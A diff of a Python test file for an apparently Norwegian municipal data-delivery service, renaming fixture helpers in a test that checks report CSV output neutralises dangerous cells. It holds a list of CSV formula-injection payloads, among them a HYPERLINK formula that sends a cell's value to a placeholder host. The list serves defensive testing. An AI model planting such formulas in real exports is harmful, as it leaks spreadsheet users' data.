@@ -12,7 +12,7 @@ from mottak.models import Kommune
 from mottak.services import deliveries as svc
 from mottak.spreadsheet import csv_writer, safe_cell, xlsx_append
 from tests.delivery_fixtures import *  # noqa: F403
-from tests.delivery_fixtures import FakeFinding, FakeReport, envelope, upload
+from tests.delivery_fixtures import envelope, finding_make, report_make, upload
 from tests.ssb_fixtures import deliveries_2020, kommuner_2020, round_2020_std  # noqa: F401
 
 EVIL = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
@@ -44,10 +44,12 @@ def test_report_csv_neutralises_cells_from_the_file(
     client, kontakt_bergen, portal_keys, monkeypatch, django_capture_on_commit_callbacks
 ):
     findings = [
-        FakeFinding("030", "WARNING", 1, "=1+2", caseworker="@SUM(A1)", message="-2+3 feil")
+        finding_make("030", "WARNING", 1, "=1+2", caseworker="@SUM(A1)", message="-2+3 feil")
     ]
-    monkeypatch.setattr(svc, "kontroll_run", lambda **kw: FakeReport(findings, records=1))
-    monkeypatch.setattr(svc, "delivery_enqueue", lambda *, delivery_id: None)
+    monkeypatch.setattr(svc, "kontroll_run", lambda **kw: report_make(findings, records=1))
+    monkeypatch.setattr(
+        svc, "control_job_push", lambda *, delivery_id, job_id, at_front=False: None
+    )
     delivery = svc.submission_create(
         user=kontakt_bergen, kommune_nr="4601", skjema="11F", aar=2020,
         file=upload(envelope(portal_keys, b"x")), check_only=True,
